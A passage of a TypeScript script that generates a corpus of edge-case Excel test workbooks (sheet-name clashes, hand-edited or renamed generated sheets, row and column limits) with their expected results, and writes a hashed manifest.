              [1, "Sentence", { rich: ["Com", "munity"] }],
              [2, "Case ID", { link: "mailto:someone@example.invalid", text: "C03" }],
            ]),
          ),
        ],
      },
      BASE_ANSWER(),
    ),
  );
  add(
    specEntry(
      "user-summary-sheet.xlsx",
      "the user's own sheet called Summary (no generated marker): it is kept and the generated one is named Summary (2)",
      { sheets: [casesTable(baseRows()), { name: "Summary", rows: [["My own summary"], ["Do not overwrite"]] }] },
      BASE_ANSWER([], { notices: ['already has a sheet named "Summary"'], outputSheets: ["Summary (2)", "Strengths & improvements", "Action plan", "Cases", "Summary"] }),
    ),
  );

  add(
    specEntry(
      "cases-on-sheet-named-summary.xlsx",
      "the Cases table lives on a sheet the user named Summary, next to their own Strengths & improvements sheet: neither is overwritten",
      { sheets: [{ ...casesTable(baseRows()), name: "Summary" }, { name: "Strengths & improvements", rows: [["My own notes"]] }] },
      BASE_ANSWER([], {
        notices: ['already has a sheet named "Summary"', 'already has a sheet named "Strengths & improvements"'],
        outputSheets: ["Summary (2)", "Strengths & improvements (2)", "Action plan", "Summary", "Strengths & improvements"],
      }),
    ),
  );
  add(
    specEntry(
      "interviews-without-interviewee.xlsx",
      "an Interviews table whose name column is headed 'Name of staff' and which lacks question 5.2",
      {
        sheets: [
          casesTable(baseRows()),
          {
            name: "Interviews",
            rows: [
              ["Name of staff", "Role", "2.6 Clear about priorities", "3.5 Clear about safeguarding"],
              ["D. Patel", "Case manager", "Yes", "No"],
              ["E. Brown", "Case manager", "Yes", "Yes"],
            ],
            table: { name: "Interviews" },
          },
        ],
      },
      BASE_ANSWER([issue("A1", "missing-column", "Interviews"), issue("A1", "missing-criterion-column", "Interviews")]),
    ),
  );

  // Workbooks already reported once, then changed by hand.
  add(
    bytesEntry(
      "generated-sheets-edited.xlsx",
      "generated Summary and Strengths sheets typed over by hand (a count set to 999, a row added): they are regenerated",
      BASE_ANSWER([], { outputSheets: ["Summary", "Strengths & improvements", "Action plan", "Cases"] }),
      async () =>
        repack(await reportedBase(), async (zip) => {
          const sheets = await sheetParts(zip);
          const summary = sheets.find((s) => s.name === "Summary")!.part;
          const xml = await textOf(zip, summary);
          zip.file(summary, xml.replace(/<v>6<\/v>/, "<v>999</v>").replace("</sheetData>", '<row r="200"><c r="A200" t="inlineStr"><is><t>My comment</t></is></c></row></sheetData>'));
        }),
      NOT_DATA,
    ),
  );
  add(
    bytesEntry(
      "generated-sheets-renamed.xlsx",
      "generated sheets renamed by hand (Board summary, S and I): they are regenerated under those names",
      BASE_ANSWER([], { outputSheets: ["Board summary", "S and I", "Action plan", "Cases"] }),
      async () =>
        repack(await reportedBase(), async (zip) => {
          await renameSheet(zip, "Summary", "Board summary");
          await renameSheet(zip, "Strengths & improvements", "S and I");
        }),
      NOT_DATA,
    ),
  );
  add(
    bytesEntry(
      "generated-sheet-copied.xlsx",
      "a generated Summary sheet copied by hand (Summary copy): the original is regenerated, the copy kept with a notice",
      BASE_ANSWER([], { notices: ["also a generated Summary sheet"], outputSheets: ["Summary", "Strengths & improvements", "Action plan", "Cases", "Summary copy"] }),
      async () =>
        repack(await reportedBase(), async (zip) => {
          const sheets = await sheetParts(zip);
          const summary = sheets.find((s) => s.name === "Summary")!.part;
          // Copied without its chart (the copy's drawing would need parts of its own).
          zip.file("xl/worksheets/sheet99.xml", (await textOf(zip, summary)).replace(/<drawing [^>]*\/>/, ""));
          const wb = await textOf(zip, "xl/workbook.xml");
          zip.file("xl/workbook.xml", wb.replace("</sheets>", '<sheet name="Summary copy" sheetId="99" r:id="rId99"/></sheets>'));
          const rels = await textOf(zip, "xl/_rels/workbook.xml.rels");
          zip.file(
            "xl/_rels/workbook.xml.rels",
            rels.replace("</Relationships>", '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet99.xml"/></Relationships>'),
          );
          const ct = await textOf(zip, "[Content_Types].xml");
          zip.file(
            "[Content_Types].xml",
            ct.replace("</Types>", '<Override PartName="/xl/worksheets/sheet99.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'),
          );
        }),
      NOT_DATA,
    ),
  );
  add(
    bytesEntry(
      "generated-marker-removed.xlsx",
      "a generated Summary whose marker line (A2) was deleted by hand: it is now the user's sheet, kept, and a new Summary (2) is written",
      BASE_ANSWER([], { notices: ['already has a sheet named "Summary"'], outputSheets: ["Summary (2)", "Strengths & improvements", "Action plan", "Summary", "Cases"] }),
      async () =>
        repack(await reportedBase(), async (zip) => {
          const sheets = await sheetParts(zip);
          const summary = sheets.find((s) => s.name === "Summary")!.part;
          const xml = await textOf(zip, summary);
          zip.file(summary, xml.replace(/<c r="A2"[^>]*?(?:\/>|>.*?<\/c>)/, ""));
        }),
      NOT_DATA,
    ),
  );

  // --- Size: the limits, and just inside them.

  add(
    specEntry("cases-1000-columns.xlsx", "a Cases sheet exactly 1,000 columns wide (971 extra columns, some filled)", { sheets: [wide(1000)] }, BASE_ANSWER()),
  );
  add({
    file: "cases-99999-rows.xlsx",
    what: "99,999 cases (100,000 sheet rows with the header: the row limit), no table",
    large: true,
    double: false,
    expected: counted({
      cases: 99999,
      criteria: { "1.1": [99999, 66666, 0, 0], "1.2": [50000, 50000, 0, 0], "2.1": [66666, 49999, 0, 0], "3.6": [33333, 16667, 0, 0] },
      overall: [1799983, 1733317],
      issues: missingCriterionColumns([]),
    }),
    build: async () => rawXlsx([{ name: "Cases", rows: cycledRows(99999) }]),
  });
  add({
    file: "cases-100000-rows.xlsx",
    what: "100,000 cases (100,001 sheet rows with the header): one row past the limit",
    large: true,
    double: false,
    engine: false,
    expected: refused("100,000 rows"),
    build: async () => rawXlsx([{ name: "Cases", rows: cycledRows(100000) }]),
  });
  return list;
}

/** Every corpus entry, in the manifest's order. */
export const CORPUS: readonly CorpusEntry[] = entries();

/** The grids of a large entry without building its file (same rows as the file). */
export function largeGrids(entry: CorpusEntry): WorkbookGrids | null {
  const m = /^cases-(\d+)-rows\.xlsx$/.exec(entry.file);
  if (!m) return null;
  return { cases: { sheet: "Cases", top: 0, left: 0, rows: [...cycledRows(Number(m[1]))] } };
}

export interface ManifestEntry {
  readonly file: string;
  readonly what: string;
  /** Made by the tests in a temporary folder, not committed. */
  readonly generatedAtTestTime: boolean;
  /** SHA-256 of the committed file. */
  readonly sha256: string | null;
  readonly bytes: number | null;
  readonly expected: ExpectedAnswer;
}

/** The bytes of one entry. */
export function buildEntry(entry: CorpusEntry): Promise<Uint8Array> {
  return entry.build();
}

/** Writes the corpus and its manifest to `dir`; returns the manifest. */
export async function writeCorpus(dir: string, options: { large?: boolean } = {}): Promise<ManifestEntry[]> {
  mkdirSync(dir, { recursive: true });
  for (const f of readdirSync(dir)) if (f.endsWith(".xlsx")) rmSync(path.join(dir, f));
  const manifest: ManifestEntry[] = [];
  for (const entry of CORPUS) {
    if (entry.large && !options.large) {
      manifest.push({ file: entry.file, what: entry.what, generatedAtTestTime: true, sha256: null, bytes: null, expected: entry.expected });
      continue;
    }
    const bytes = await entry.build();
    writeFileSync(path.join(dir, entry.file), bytes);
    manifest.push({
      file: entry.file,
      what: entry.what,
      generatedAtTestTime: entry.large ?? false,
      sha256: entry.large ? null : createHash("sha256").update(bytes).digest("hex"),
      bytes: entry.large ? null : bytes.length,
      expected: entry.expected,
    });
  }
  writeFileSync(path.join(dir, "manifest.json"), `${JSON.stringify(manifest, null, 1)}\n`);
  return manifest;
}

async function run(): Promise<void> {
  const root = path.resolve(__dirname, "..", "..", "..");
  const args = process.argv.slice(2);
  const large = args.includes("--large");
  const dir = path.resolve(args.find((a) => !a.startsWith("--")) ?? path.join(root, "test", "fixtures", "hostile"));
  const manifest = await writeCorpus(dir, { large });
  const total = manifest.reduce((n, m) => n + (m.bytes ?? 0), 0);
  process.stdout.write(`Hostile corpus: ${manifest.length} entries (${manifest.filter((m) => m.sha256).length} files, ${(total / 1024).toFixed(0)} KB) written to ${dir}\n`);
}

if (require.main === module) {
  run().catch((e: unknown) => {
    process.stderr.write(`make-hostile-corpus: ${e instanceof Error ? e.message : String(e)}\n`);
    process.exitCode = 1;
  });
}
